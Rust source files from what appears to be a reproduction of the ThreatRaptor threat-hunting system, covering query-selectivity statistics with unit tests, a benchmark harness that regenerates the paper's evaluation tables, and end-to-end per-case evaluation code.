    pub fn new(dict: SharedDict) -> Self {
        StoreStats {
            dict,
            tables: FxHashMap::default(),
            degrees: FxHashMap::default(),
            node_class: FxHashMap::default(),
            out_deg: FxHashMap::default(),
            in_deg: FxHashMap::default(),
            catalog: PathCatalog::default(),
        }
    }

    /// The path cardinality catalog riding this stats bundle (see
    /// [`crate::catalog`]).
    pub fn catalog(&self) -> &PathCatalog {
        &self.catalog
    }

    /// Mutable catalog handle (tests toggle the gate without the env var).
    pub fn catalog_mut(&mut self) -> &mut PathCatalog {
        &mut self.catalog
    }

    /// The dictionary plane this bundle's symbols live in.
    pub fn dict(&self) -> &SharedDict {
        &self.dict
    }

    pub fn table(&self, name: &str) -> Option<&TableStats> {
        self.tables.get(name)
    }

    /// Mutable handle for per-row recording (creates the table on first
    /// touch).
    pub fn table_mut(&mut self, name: &str) -> &mut TableStats {
        if !self.tables.contains_key(name) {
            self.tables.insert(name.to_string(), TableStats::default());
        }
        self.tables.get_mut(name).expect("just inserted")
    }

    pub fn degree(&self, class: EntityClass) -> Option<&DegreeStats> {
        self.degrees.get(&class)
    }

    /// Total entities across classes.
    pub fn total_nodes(&self) -> u64 {
        self.degrees.values().map(|d| d.nodes).sum()
    }

    /// Total event edges (every event has exactly one classed subject).
    pub fn total_edges(&self) -> u64 {
        self.degrees.values().map(|d| d.out_edges).sum()
    }

    /// Registers one entity of `class` (enables degree tracking for edges
    /// touching `id`).
    pub fn record_node(&mut self, class: EntityClass, id: i64) {
        self.node_class.insert(id, class);
        self.degrees.entry(class).or_default().nodes += 1;
    }

    /// Registers one event edge `subject → object` carrying operation
    /// `op`, updating per-class degree summaries and the path catalog.
    pub fn record_edge(&mut self, subject: i64, object: i64, op: Option<Sym>) {
        if let (Some(&cs), Some(&co), Some(op)) =
            (self.node_class.get(&subject), self.node_class.get(&object), op)
        {
            self.catalog.record_edge(subject, object, cs, co, op);
        }
        if let Some(&c) = self.node_class.get(&subject) {
            let deg = self.out_deg.entry(subject).or_insert(0);
            *deg += 1;
            let d = self.degrees.entry(c).or_default();
            d.out_edges += 1;
            d.max_out = d.max_out.max(*deg);
        }
        if let Some(&c) = self.node_class.get(&object) {
            let deg = self.in_deg.entry(object).or_insert(0);
            *deg += 1;
            let d = self.degrees.entry(c).or_default();
            d.in_edges += 1;
            d.max_in = d.max_in.max(*deg);
        }
    }

    /// The event-operation frequency table (exact counts per `optype`),
    /// most frequent first.
    pub fn event_ops(&self) -> Vec<(String, u64)> {
        let Some(col) = self.table("events").and_then(|t| t.column("optype")) else {
            return Vec::new();
        };
        col.top_k(usize::MAX, &self.dict)
            .into_iter()
            .filter_map(|(v, c)| v.as_sym().map(|s| (self.dict.resolve(s).to_string(), c)))
            .collect()
    }

    /// Exact frequency of one event operation.
    pub fn event_op_freq(&self, op: &str) -> u64 {
        let Some(sym) = self.dict.get(op) else { return 0 };
        self.table("events")
            .and_then(|t| t.column("optype"))
            .map_or(0, |c| c.freq(&Value::Str(sym)))
    }

    /// Comparable view for tests: `(table → rows, class → degree)` without
    /// the internal per-node maps.
    pub fn summary(&self) -> Vec<(String, u64)> {
        let mut rows: Vec<(String, u64)> =
            self.tables.iter().map(|(n, t)| (n.clone(), t.rows)).collect();
        rows.sort();
        rows
    }

    /// Dictionary-independent view: every symbol rendered, every map
    /// sorted. Two stores over **different** dictionaries built from the
    /// same data compare equal here (e.g. a stream-grown engine vs a
    /// bulk-loaded one, whose interning orders differ). Within one
    /// dictionary plane, plain `==` compares at the symbol level and is
    /// what the backends' equality assertion uses.
    pub fn canonical(&self) -> CanonicalStats {
        let tables = self
            .tables
            .iter()
            .map(|(name, t)| {
                let cols = t
                    .cols
                    .iter()
                    .map(|(cname, c)| {
                        (
                            cname.clone(),
                            CanonicalColumn {
                                non_null: c.non_null,
                                other: c.other,
                                ints: c.ints.iter().map(|(&v, &n)| (v, n)).collect(),
                                strs: c
                                    .strs
                                    .iter()
                                    .map(|(&v, &n)| (self.dict.resolve(v).to_string(), n))
                                    .collect(),
                                hist: c.hist.clone(),
                            },
                        )
                    })
                    .collect();
                (name.clone(), CanonicalTable { rows: t.rows, cols })
            })
            .collect();
        let degrees = self.degrees.iter().map(|(c, &d)| (c.table_name().to_string(), d)).collect();
        CanonicalStats { tables, degrees }
    }
}

/// See [`StoreStats::canonical`].
#[derive(Clone, Debug, PartialEq)]
pub struct CanonicalStats {
    tables: std::collections::BTreeMap<String, CanonicalTable>,
    degrees: std::collections::BTreeMap<String, DegreeStats>,
}

#[derive(Clone, Debug, PartialEq)]
struct CanonicalTable {
    rows: u64,
    cols: std::collections::BTreeMap<String, CanonicalColumn>,
}

#[derive(Clone, Debug, PartialEq)]
struct CanonicalColumn {
    non_null: u64,
    other: u64,
    ints: std::collections::BTreeMap<i64, u64>,
    strs: std::collections::BTreeMap<String, u64>,
    hist: Histogram,
}

impl PartialEq for StoreStats {
    /// Equality over the *served* statistics (tables and degree summaries);
    /// the per-node working maps are an implementation detail.
    fn eq(&self, other: &Self) -> bool {
        self.tables == other.tables && self.degrees == other.degrees
    }
}

/// Estimated fraction of `table`'s rows matching a typed predicate, under
/// conjunct independence. Unknown columns estimate 1.0 (no pruning
/// assumed); results are clamped to `[0, 1]`. Equality predicates key the
/// frequency maps directly on the request's pre-interned symbols; `dict`
/// is only consulted to resolve LIKE-shaped string literals.
pub fn selectivity(table: &TableStats, pred: &Pred, dict: &SharedDict) -> f64 {
    let sel = match pred {
        Pred::Cmp { attr, op, value } => match table.column(attr) {
            None => 1.0,
            Some(col) => {
                // `=`/`!=` against a `%` pattern carries LIKE semantics
                // (mirrors the compilers in both backends).
                let wildcard = value
                    .as_sym()
                    .map(|s| dict.resolve(s))
                    .filter(|s| s.contains('%') && matches!(op, CmpOp::Eq | CmpOp::Ne));
                match (op, value, wildcard) {
                    (CmpOp::Eq, _, Some(s)) => col.like_fraction(s, dict),
                    (CmpOp::Ne, _, Some(s)) => 1.0 - col.like_fraction(s, dict),
                    (CmpOp::Eq, v, _) => col.eq_fraction(v),
                    (CmpOp::Ne, v, _) => 1.0 - col.eq_fraction(v),
                    (op, Value::Int(i), _) => col.cmp_fraction(*op, *i),
                    // Ordered comparison on strings: no histogram, assume a
                    // third matches.
                    _ => 1.0 / 3.0,
                }
            }
        },
        Pred::Like { attr, pattern, negated } => match table.column(attr) {
            None => 1.0,
            Some(col) => {
                let f = col.like_fraction(pattern, dict);
                if *negated {
                    1.0 - f
                } else {
                    f
                }
            }
        },
        Pred::InSet { attr, negated, values } => match table.column(attr) {
            None => 1.0,
            Some(col) => {
                let f: f64 = values.iter().map(|v| col.eq_fraction(v)).sum();
                let f = f.clamp(0.0, 1.0);
                if *negated {
                    1.0 - f
                } else {
                    f
                }
            }
        },
        Pred::And(a, b) => selectivity(table, a, dict) * selectivity(table, b, dict),
        Pred::Or(a, b) => {
            let (sa, sb) = (selectivity(table, a, dict), selectivity(table, b, dict));
            sa + sb - sa * sb
        }
        Pred::Not(inner) => 1.0 - selectivity(table, inner, dict),
    };
    sel.clamp(0.0, 1.0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn histogram_scales_and_estimates() {
        let mut h = Histogram::default();
        for v in 0..1000 {
            h.record(v);
        }
        assert_eq!(h.total(), 1000);
        assert_eq!((h.min(), h.max()), (Some(0), Some(999)));
        let half = h.fraction_le(499);
        assert!((half - 0.5).abs() < 0.05, "{half}");
        assert_eq!(h.fraction_le(-1), 0.0);
        assert_eq!(h.fraction_le(5000), 1.0);
        let mid = h.fraction_between(250, 749);
        assert!((mid - 0.5).abs() < 0.05, "{mid}");
    }

    #[test]
    fn histogram_grows_downward() {
        let mut h = Histogram::default();
        h.record(1000);
        for v in [-500i64, 0, 500, 1500] {
            h.record(v);
        }
        assert_eq!(h.total(), 5);
        assert_eq!((h.min(), h.max()), (Some(-500), Some(1500)));
        assert!(h.fraction_le(-501) == 0.0);
        assert!(h.fraction_le(1500) == 1.0);
    }

    #[test]
    fn column_exact_below_cap() {
        let dict = SharedDict::new();
        let (read, connect, unseen) =
            (dict.intern("read"), dict.intern("connect"), dict.intern("unseen"));
        let mut c = ColumnStats::default();
        for _ in 0..90 {
            c.record_sym(read);
        }
        for _ in 0..10 {
            c.record_sym(connect);
        }
        assert_eq!(c.non_null(), 100);
        assert_eq!(c.distinct(), 2);
        assert_eq!(c.freq(&Value::Str(read)), 90);
        assert!((c.eq_fraction(&Value::Str(connect)) - 0.1).abs() < 1e-9);
        assert_eq!(c.eq_fraction(&Value::Str(unseen)), 0.0);
        let top = c.top_k(1, &dict);
        assert_eq!(top, vec![(Value::Str(read), 90)]);
    }

    #[test]
    fn column_caps_tail() {
        let mut c = ColumnStats::default();
        for i in 0..(MCV_TRACK_CAP as i64 + 100) {
            c.record_int(i);
        }
        // Every row distinct: tracked cap + tail.
        assert_eq!(c.distinct(), MCV_TRACK_CAP as u64 + 100);
        assert_eq!(c.non_null(), MCV_TRACK_CAP as u64 + 100);
        // Tracked value exact, untracked assumed one row.
        assert_eq!(c.freq(&Value::Int(0)), 1);
        assert!(c.eq_fraction(&Value::Int(i64::MAX - 1)) > 0.0);
    }

    #[test]
    fn like_fraction_exact_when_tracked() {
        let dict = SharedDict::new();
        let mut c = ColumnStats::default();
        for name in ["/etc/passwd", "/tmp/upload.tar", "/tmp/upload.tar.bz2", "/var/log/syslog"] {
            c.record_sym(dict.intern(name));
        }
        assert!((c.like_fraction("%upload%", &dict) - 0.5).abs() < 1e-9);
        assert!((c.like_fraction("%", &dict) - 1.0).abs() < 1e-9);
        assert_eq!(c.like_fraction("%absent%", &dict), 0.0);
    }

    #[test]
    fn selectivity_composes() {
        let dict = SharedDict::new();
        let mut t = TableStats::default();
        for _ in 0..80 {
            t.record_row();
            t.record_sym("optype", dict.intern("read"));
            t.record_sym("kind", dict.intern("file"));
            t.record_int("starttime", 100);
        }
        for _ in 0..20 {
            t.record_row();
            t.record_sym("optype", dict.intern("connect"));
            t.record_sym("kind", dict.intern("network"));
            t.record_int("starttime", 200);
        }
        let eq = |attr: &str, v: &str| Pred::Cmp {
            attr: attr.into(),
            op: CmpOp::Eq,
            value: Value::Str(dict.intern(v)),
        };
        assert!((selectivity(&t, &eq("optype", "connect"), &dict) - 0.2).abs() < 1e-9);
        let both = Pred::And(Box::new(eq("optype", "read")), Box::new(eq("kind", "file")));
        assert!((selectivity(&t, &both, &dict) - 0.64).abs() < 1e-9);
        let either = Pred::Or(Box::new(eq("optype", "read")), Box::new(eq("optype", "connect")));
        assert!((selectivity(&t, &either, &dict) - 0.84).abs() < 1e-9);
        // Unknown column: no pruning assumed.
        assert_eq!(selectivity(&t, &eq("missing", "x"), &dict), 1.0);
        // Range via the histogram.
        let range = Pred::Cmp { attr: "starttime".into(), op: CmpOp::Ge, value: Value::Int(150) };
        let s = selectivity(&t, &range, &dict);
        assert!((s - 0.2).abs() < 0.05, "{s}");
    }

    #[test]
    fn degrees_track_classes() {
        let mut s = StoreStats::default();
        s.record_node(EntityClass::Process, 0);
        s.record_node(EntityClass::Process, 1);
        s.record_node(EntityClass::File, 2);
        let op = s.dict().intern("read");
        s.record_edge(0, 2, Some(op));
        s.record_edge(0, 2, Some(op));
        s.record_edge(1, 2, Some(op));
        let p = s.degree(EntityClass::Process).unwrap();
        assert_eq!((p.nodes, p.out_edges, p.max_out), (2, 3, 2));
        let f = s.degree(EntityClass::File).unwrap();
        assert_eq!((f.nodes, f.in_edges, f.max_in), (1, 3, 3));
        assert!((p.avg_out() - 1.5).abs() < 1e-9);
        assert_eq!(s.total_nodes(), 3);
        assert_eq!(s.total_edges(), 3);
    }

    #[test]
    fn event_op_table() {
        let mut s = StoreStats::default();
        for op in ["read", "read", "write"] {
            let sym = s.dict().intern(op);
            let t = s.table_mut("events");
            t.record_row();
            t.record_sym("optype", sym);
        }
        assert_eq!(s.event_op_freq("read"), 2);
        assert_eq!(s.event_op_freq("absent"), 0);
        assert_eq!(s.event_ops(), vec![("read".to_string(), 2), ("write".to_string(), 1)]);
    }
}
