//! Paper-table rendering (Tables I–X).
//!
//! Each `table*` function regenerates one table of the ThreatRaptor
//! evaluation and returns it as text. The `tables` binary prints them;
//! `EXPERIMENTS.md` records a reference run against the paper's numbers.

use std::time::Duration as StdDuration;

use raptor_audit::syscall::{EventCategory, Syscall};
use raptor_cases::all_cases;
use raptor_cases::metrics::PrF1;
use raptor_common::table::{pct, TextTable};
use raptor_engine::exec::ExecMode;
use raptor_engine::fuzzy::{search, FuzzyConfig, QueryGraph};
use raptor_engine::provenance::build_from_stores;
use raptor_tbql::metrics::{char_count, word_count};

use crate::caseval::{
    evaluate_case, query_variants, score_openie, score_threatraptor_extraction, time_execution,
    CaseEval,
};

/// Harness configuration.
#[derive(Clone, Copy, Debug)]
pub struct HarnessConfig {
    /// Benign-noise scale (1.0 = each case's baseline sessions).
    pub noise_scale: f64,
    /// Rounds per query variant in Table VIII (the paper uses 20).
    pub rounds: usize,
    /// Fuzzy-search budget in seconds (the paper's cut-off is 3600).
    pub fuzzy_budget_secs: f64,
    pub seed: u64,
}

impl Default for HarnessConfig {
    fn default() -> Self {
        HarnessConfig { noise_scale: 1.0, rounds: 20, fuzzy_budget_secs: 60.0, seed: 42 }
    }
}

/// Table I: representative system calls per event category.
pub fn table1() -> String {
    let mut t = TextTable::new(["Event Category", "Relevant System Calls"]);
    for (cat, label) in [
        (EventCategory::ProcessToFile, "ProcessToFile"),
        (EventCategory::ProcessToProcess, "ProcessToProcess"),
        (EventCategory::ProcessToNetwork, "ProcessToNetwork"),
    ] {
        let calls: Vec<&str> = Syscall::ALL
            .iter()
            .filter(|c| c.categories().contains(&cat))
            .map(|c| c.name())
            .collect();
        t.row([label.to_string(), calls.join(", ")]);
    }
    format!("Table I: representative system calls processed\n{}", t.render())
}

/// Table II: representative attributes of system entities.
pub fn table2() -> String {
    let mut t = TextTable::new(["Entity", "Attributes"]);
    t.row(["File", "Name, Path, User, Group"]);
    t.row(["Process", "PID, Executable Name, User, Group, CMD"]);
    t.row(["Network Connection", "SRC/DST IP, SRC/DST Port, Protocol"]);
    format!("Table II: representative attributes of system entities\n{}", t.render())
}

/// Table III: representative attributes of system events.
pub fn table3() -> String {
    let mut t = TextTable::new(["Group", "Attributes"]);
    t.row(["Operation", "Type (read, write, execute, start, end, rename, connect)"]);
    t.row(["Time", "Start Time, End Time, Duration"]);
    t.row(["Misc.", "Subject ID, Object ID, Data Amount, Failure Code"]);
    format!("Table III: representative attributes of system events\n{}", t.render())
}

/// Table IV: the 18 attack cases.
pub fn table4() -> String {
    let mut t = TextTable::new(["Case ID", "Case Name"]);
    for c in all_cases() {
        t.row([c.id, c.name]);
    }
    format!("Table IV: 18 attack cases in the evaluation benchmark\n{}", t.render())
}

/// Table V: IOC entity / relation extraction quality, six approaches,
/// micro-aggregated over all 18 cases.
pub fn table5() -> String {
    type Scorer = Box<dyn Fn(&raptor_cases::CaseSpec) -> crate::caseval::ExtractScores>;
    let approaches: Vec<(&str, Scorer)> = vec![
        ("ThreatRaptor", Box::new(|c| score_threatraptor_extraction(c, true))),
        ("ThreatRaptor - IOC Protection", Box::new(|c| score_threatraptor_extraction(c, false))),
        ("Stanford-style Open IE", Box::new(|c| score_openie(c, false, false))),
        ("Stanford-style + IOC Protection", Box::new(|c| score_openie(c, true, false))),
        ("OpenIE5-style", Box::new(|c| score_openie(c, false, true))),
        ("OpenIE5-style + IOC Protection", Box::new(|c| score_openie(c, true, true))),
    ];
    let mut t =
        TextTable::new(["Approach", "Ent. P", "Ent. R", "Ent. F1", "Rel. P", "Rel. R", "Rel. F1"]);
    for (name, f) in &approaches {
        let mut ent = PrF1::default();
        let mut rel = PrF1::default();
        for c in all_cases() {
            let s = f(c);
            ent.add(s.entity);
            rel.add(s.relation);
        }
        t.row([
            name.to_string(),
            pct(ent.precision()),
            pct(ent.recall()),
            pct(ent.f1()),
            pct(rel.precision()),
            pct(rel.recall()),
            pct(rel.f1()),
        ]);
    }
    format!(
        "Table V: IOC entity and relation extraction (aggregated over 18 cases)\n{}",
        t.render()
    )
}

/// Runs the full per-case evaluation once (shared by Tables VI–X).
pub fn run_all(cfg: &HarnessConfig) -> Vec<CaseEval> {
    all_cases().into_iter().map(|c| evaluate_case(c, cfg.noise_scale, cfg.seed)).collect()
}

/// Table VI: threat-hunting precision and recall per case.
pub fn table6(evals: &[CaseEval]) -> String {
    let mut t = TextTable::new(["Case", "Precision", "Recall"]);
    let (mut tp, mut found, mut gt) = (0usize, 0usize, 0usize);
    for e in evals {
        t.row([
            e.case.id.to_string(),
            format!("{}/{}", e.hunt_tp, e.hunt_found),
            format!("{}/{}", e.hunt_tp, e.hunt_gt),
        ]);
        tp += e.hunt_tp;
        found += e.hunt_found;
        gt += e.hunt_gt;
    }
    t.row([
        "Total".to_string(),
        format!("{tp}/{found} = {}", pct(if found == 0 { 0.0 } else { tp as f64 / found as f64 })),
        format!("{tp}/{gt} = {}", pct(if gt == 0 { 0.0 } else { tp as f64 / gt as f64 })),
    ]);
    format!("Table VI: precision and recall of finding malicious system events\n{}", t.render())
}

/// Table VII: stage latencies (seconds) — extraction, graph construction,
/// query synthesis — plus the Open IE baselines' extraction times.
pub fn table7(evals: &[CaseEval]) -> String {
    let mut t = TextTable::new([
        "Case",
        "Text->E.&R.",
        "E.&R.->Graph",
        "Graph->TBQL",
        "Stanford-style",
        "OpenIE5-style",
    ]);
    let mut sums = [0f64; 5];
    for e in evals {
        let stanford = score_openie(e.case, false, false).seconds;
        let openie5 = score_openie(e.case, false, true).seconds;
        let row = [e.stage_seconds.0, e.stage_seconds.1, e.stage_seconds.2, stanford, openie5];
        for (s, v) in sums.iter_mut().zip(row.iter()) {
            *s += v;
        }
        t.row([
            e.case.id.to_string(),
            format!("{:.4}", row[0]),
            format!("{:.4}", row[1]),
            format!("{:.4}", row[2]),
            format!("{:.4}", row[3]),
            format!("{:.4}", row[4]),
        ]);
    }
    let n = evals.len().max(1) as f64;
    t.row([
        "Average".to_string(),
        format!("{:.4}", sums[0] / n),
        format!("{:.4}", sums[1] / n),
        format!("{:.4}", sums[2] / n),
        format!("{:.4}", sums[3] / n),
        format!("{:.4}", sums[4] / n),
    ]);
    format!(
        "Table VII: execution time (s) of extraction / graph / synthesis stages\n{}",
        t.render()
    )
}

fn mean_std(samples: &[f64]) -> (f64, f64) {
    let n = samples.len().max(1) as f64;
    let mean = samples.iter().sum::<f64>() / n;
    let var = samples.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>() / n;
    (mean, var.sqrt())
}

/// Table VIII: query execution time of the four variants, `rounds` rounds.
pub fn table8(evals: &[CaseEval], cfg: &HarnessConfig) -> String {
    let mut t = TextTable::new([
        "Case",
        "TBQL mean",
        "TBQL std",
        "SQL mean",
        "SQL std",
        "TBQL(path) mean",
        "TBQL(path) std",
        "Cypher mean",
        "Cypher std",
    ]);
    let mut totals = [0f64; 4];
    for e in evals {
        let v = query_variants(e);
        let mut cols = Vec::with_capacity(8);
        // The giant variants run the same TBQL text: the engine compiles it
        // into the one giant SQL/Cypher statement internally.
        for (text, mode, slot) in [
            (&v.tbql, ExecMode::Scheduled, 0usize),
            (&v.tbql, ExecMode::GiantSql, 1),
            (&v.tbql_path, ExecMode::Scheduled, 2),
            (&v.tbql_path, ExecMode::GiantCypher, 3),
        ] {
            let samples: Vec<f64> =
                (0..cfg.rounds).map(|_| time_execution(&e.raptor, text, mode)).collect();
            let (m, s) = mean_std(&samples);
            totals[slot] += m;
            cols.push(format!("{m:.4}"));
            cols.push(format!("{s:.4}"));
        }
        let mut row = vec![e.case.id.to_string()];
        row.extend(cols);
        t.row(row);
    }
    let mut total_row = vec!["Total".to_string()];
    for tot in totals {
        total_row.push(format!("{tot:.4}"));
        total_row.push(String::new());
    }
    t.row(total_row);
    let speedup_sql = if totals[0] > 0.0 { totals[1] / totals[0] } else { 0.0 };
    let speedup_cy = if totals[2] > 0.0 { totals[3] / totals[2] } else { 0.0 };
    format!(
        "Table VIII: query execution time (s), {} rounds per variant\n{}\nTBQL vs giant SQL speedup: {:.1}x   TBQL(path) vs giant Cypher speedup: {:.1}x\n",
        cfg.rounds,
        t.render(),
        speedup_sql,
        speedup_cy
    )
}

/// Table IX: fuzzy search (exhaustive) vs the Poirot baseline
/// (first-acceptable), with loading / preprocessing / searching phases.
pub fn table9(evals: &[CaseEval], cfg: &HarnessConfig) -> String {
    let mut t = TextTable::new([
        "Case",
        "Fz load",
        "Fz prep",
        "Fz search",
        "Fz aligns",
        "Po load",
        "Po prep",
        "Po search",
        "Po aligns",
    ]);
    for e in evals {
        let q = raptor_tbql::parse_tbql(&e.tbql).expect("reparse");
        let aq = raptor_tbql::analyze(&q).expect("analyze");
        let qg = QueryGraph::from_analyzed(&aq);
        let mut row = vec![e.case.id.to_string()];
        for exhaustive in [true, false] {
            let (prov, timings) = build_from_stores(&e.raptor.engine().stores).expect("provenance");
            let fcfg = FuzzyConfig {
                budget: StdDuration::from_secs_f64(cfg.fuzzy_budget_secs),
                exhaustive,
                ..Default::default()
            };
            let out = search(&prov, &qg, &fcfg);
            row.push(format!("{:.3}", timings.loading));
            row.push(format!("{:.3}", timings.preprocessing));
            row.push(if out.timed_out {
                format!(">{:.0}", cfg.fuzzy_budget_secs)
            } else {
                format!("{:.3}", out.searching)
            });
            row.push(out.alignments.len().to_string());
        }
        t.row(row);
    }
    format!(
        "Table IX: fuzzy search (exhaustive) vs Poirot baseline, budget {:.0}s\n{}",
        cfg.fuzzy_budget_secs,
        t.render()
    )
}

/// Table X: conciseness of the four query variants.
pub fn table10(evals: &[CaseEval]) -> String {
    let mut t = TextTable::new([
        "Case",
        "# Patterns",
        "TBQL chars",
        "TBQL words",
        "SQL chars",
        "SQL words",
        "TBQL(path) chars",
        "TBQL(path) words",
        "Cypher chars",
        "Cypher words",
    ]);
    let mut sums = [0usize; 9];
    for e in evals {
        let v = query_variants(e);
        let q = raptor_tbql::parse_tbql(&e.tbql).expect("reparse");
        let cells = [
            q.patterns.len(),
            char_count(&v.tbql),
            word_count(&v.tbql),
            char_count(&v.sql),
            word_count(&v.sql),
            char_count(&v.tbql_path),
            word_count(&v.tbql_path),
            char_count(&v.cypher),
            word_count(&v.cypher),
        ];
        for (s, c) in sums.iter_mut().zip(cells.iter()) {
            *s += c;
        }
        let mut row = vec![e.case.id.to_string()];
        row.extend(cells.iter().map(usize::to_string));
        t.row(row);
    }
    let mut row = vec!["Total".to_string()];
    row.extend(sums.iter().map(usize::to_string));
    t.row(row);
    let chars_vs_sql = sums[3] as f64 / sums[1].max(1) as f64;
    let words_vs_sql = sums[4] as f64 / sums[2].max(1) as f64;
    let chars_vs_cy = sums[7] as f64 / sums[1].max(1) as f64;
    let words_vs_cy = sums[8] as f64 / sums[2].max(1) as f64;
    format!(
        "Table X: conciseness of TBQL / SQL / TBQL(length-1 path) / Cypher\n{}\nTBQL vs SQL: {:.1}x chars, {:.1}x words   TBQL vs Cypher: {:.1}x chars, {:.1}x words\n",
        t.render(),
        chars_vs_sql,
        words_vs_sql,
        chars_vs_cy,
        words_vs_cy
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn static_tables_render() {
        assert!(table1().contains("ProcessToFile"));
        assert!(table1().contains("execve"));
        assert!(table2().contains("PID"));
        assert!(table3().contains("Start Time"));
        let t4 = table4();
        assert!(t4.contains("tc_trace_5"));
        assert!(t4.contains("VPNFilter"));
    }
}
