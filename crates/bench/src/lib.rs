//! Benchmark harness library.
//!
//! [`caseval`] evaluates one benchmark case end to end (extraction quality,
//! synthesis, hunting precision/recall, per-stage timings) and is shared by
//! the `tables` binary (which reprints every table of the paper) and the
//! integration tests. [`tables`] renders the paper-style tables.

pub mod caseval;
pub mod corpus;
pub mod tables;
