//! End-to-end evaluation of one benchmark case.

use std::time::Instant;

use raptor_cases::metrics::{score_entities, score_relations, PrF1};
use raptor_cases::spec::{build_case, BuiltCase, CaseSpec};
use raptor_common::hash::FxHashSet;
use raptor_engine::exec::ExecMode;
use raptor_extract::openie;
use raptor_extract::pipeline::extract_with_options;
use raptor_tbql::print::print_query;
use threatraptor::{synthesize, SynthesisPlan, ThreatRaptor};

pub use raptor_extract::pipeline::extract;

/// Extraction-quality scores for one approach on one case.
#[derive(Clone, Copy, Debug, Default)]
pub struct ExtractScores {
    pub entity: PrF1,
    pub relation: PrF1,
    /// Text → entities & relations seconds.
    pub seconds: f64,
}

/// The full evaluation of one case.
pub struct CaseEval {
    pub case: &'static CaseSpec,
    /// ThreatRaptor extraction quality.
    pub extraction: ExtractScores,
    /// Stage timings (Table VII): text→E&R, E&R→graph, graph→TBQL.
    pub stage_seconds: (f64, f64, f64),
    /// The synthesized TBQL query text.
    pub tbql: String,
    /// Hunting outcome: (found∩gt, found, gt) event counts (Table VI).
    pub hunt_tp: usize,
    pub hunt_found: usize,
    pub hunt_gt: usize,
    /// The built scenario (kept for query-execution benchmarks).
    pub built: BuiltCase,
    pub raptor: ThreatRaptor,
}

impl CaseEval {
    pub fn hunt_precision(&self) -> f64 {
        if self.hunt_found == 0 {
            return 0.0;
        }
        self.hunt_tp as f64 / self.hunt_found as f64
    }

    pub fn hunt_recall(&self) -> f64 {
        if self.hunt_gt == 0 {
            return 0.0;
        }
        self.hunt_tp as f64 / self.hunt_gt as f64
    }
}

/// Scores the ThreatRaptor extraction pipeline on one case (optionally
/// without IOC protection — the Table V ablation).
pub fn score_threatraptor_extraction(spec: &CaseSpec, ioc_protection: bool) -> ExtractScores {
    let t0 = Instant::now();
    let out = extract_with_options(spec.report, ioc_protection);
    let seconds = t0.elapsed().as_secs_f64();
    let entity_texts: Vec<String> = out.entities.iter().map(|e| e.text.clone()).collect();
    let triples: Vec<(String, String, String)> =
        out.triples.iter().map(|t| (t.subj.clone(), t.verb.clone(), t.obj.clone())).collect();
    ExtractScores {
        entity: score_entities(&entity_texts, spec.gt_entities),
        relation: score_relations(&triples, spec.gt_relations),
        seconds,
    }
}

/// Scores an Open IE baseline on one case.
pub fn score_openie(spec: &CaseSpec, protection: bool, exhaustive: bool) -> ExtractScores {
    let t0 = Instant::now();
    let out = openie::run_baseline(spec.report, protection, exhaustive);
    let seconds = t0.elapsed().as_secs_f64();
    let triples: Vec<(String, String, String)> =
        out.triples.iter().map(|t| (t.subj.clone(), t.verb.clone(), t.obj.clone())).collect();
    ExtractScores {
        entity: score_entities(&out.entities, spec.gt_entities),
        relation: score_relations(&triples, spec.gt_relations),
        seconds,
    }
}

/// Runs the full pipeline on a case: build scenario → extract → synthesize
/// → hunt, and scores everything.
pub fn evaluate_case(spec: &'static CaseSpec, noise_scale: f64, seed: u64) -> CaseEval {
    let built = build_case(spec, noise_scale, seed);
    let raptor = ThreatRaptor::from_log(&built.log).expect("load stores");

    // Extraction + timing (Table V / VII).
    let extraction = score_threatraptor_extraction(spec, true);
    let t0 = Instant::now();
    let out = extract(spec.report);
    let text_to_er = out.timing.text_to_er;
    let er_to_graph = out.timing.er_to_graph;
    let _ = t0;

    // Synthesis + timing.
    let t1 = Instant::now();
    let query = synthesize(&out.graph, &SynthesisPlan::default()).expect("synthesize");
    let graph_to_tbql = t1.elapsed().as_secs_f64();
    let tbql = print_query(&query);

    // Hunting: per-pattern matches vs ground truth.
    let aq = raptor_tbql::analyze(&query).expect("analyze");
    let matches = raptor.engine().pattern_event_matches(&aq).expect("match");
    let found: FxHashSet<i64> = matches.into_iter().flat_map(|(_, ids)| ids).collect();
    let tp = found.intersection(&built.gt_event_ids).count();

    CaseEval {
        case: spec,
        extraction,
        stage_seconds: (text_to_er, er_to_graph, graph_to_tbql),
        tbql,
        hunt_tp: tp,
        hunt_found: found.len(),
        hunt_gt: built.gt_event_ids.len(),
        built,
        raptor,
    }
}

/// The four Table VIII / X query variants for a case's synthesized query.
pub struct QueryVariants {
    /// (a) TBQL, event-pattern syntax.
    pub tbql: String,
    /// (b) giant SQL.
    pub sql: String,
    /// (c) TBQL, length-1 event path syntax.
    pub tbql_path: String,
    /// (d) giant Cypher.
    pub cypher: String,
}

/// Builds all four query variants from an evaluated case.
pub fn query_variants(eval: &CaseEval) -> QueryVariants {
    let q = raptor_tbql::parse_tbql(&eval.tbql).expect("reparse");
    let aq = raptor_tbql::analyze(&q).expect("analyze");
    let stores = &eval.raptor.engine().stores;
    let ctx = raptor_engine::compile::CompileCtx {
        aq: &aq,
        now_ns: stores.now_ns,
        dict: stores.dict.clone(),
    };
    let sql = raptor_engine::compile::giant_sql(&ctx).expect("giant sql");
    let cypher = raptor_engine::compile::giant_cypher(&ctx).expect("giant cypher");
    let path_q = raptor_engine::exec::to_length1_path_query(&q);
    let tbql_path = print_query(&path_q);
    QueryVariants { tbql: eval.tbql.clone(), sql, tbql_path, cypher }
}

/// Executes a TBQL text under a mode, returning elapsed seconds.
pub fn time_execution(raptor: &ThreatRaptor, tbql: &str, mode: ExecMode) -> f64 {
    let t0 = Instant::now();
    let _ = raptor.query_with_mode(tbql, mode).expect("execute");
    t0.elapsed().as_secs_f64()
}
