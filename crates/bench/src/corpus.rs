//! The backend-equivalence corpus system, shared by the `bench_smoke` CI
//! gate and the scheduler benchmarks.
//!
//! This is the **single authoritative scenario** — the equivalence and
//! order-invariance test suites call it too (via the root package's
//! dev-dependency on `raptor-bench`): the Figure-2 data-leak attack staged
//! over deterministic background noise, so every query of [`EQUIV_CORPUS`]
//! matches at least one row. The corpus queries' pinned scheduler orders
//! and the checked-in `BENCH_schedule.json` baseline both assume this
//! exact store.

use raptor_audit::sim::{generate_background, BackgroundProfile, Simulator};
use raptor_audit::{reduce, LogParser, ParsedLog};
use raptor_common::time::Timestamp;
use threatraptor::ThreatRaptor;

pub use raptor_tbql::parser::EQUIV_CORPUS;

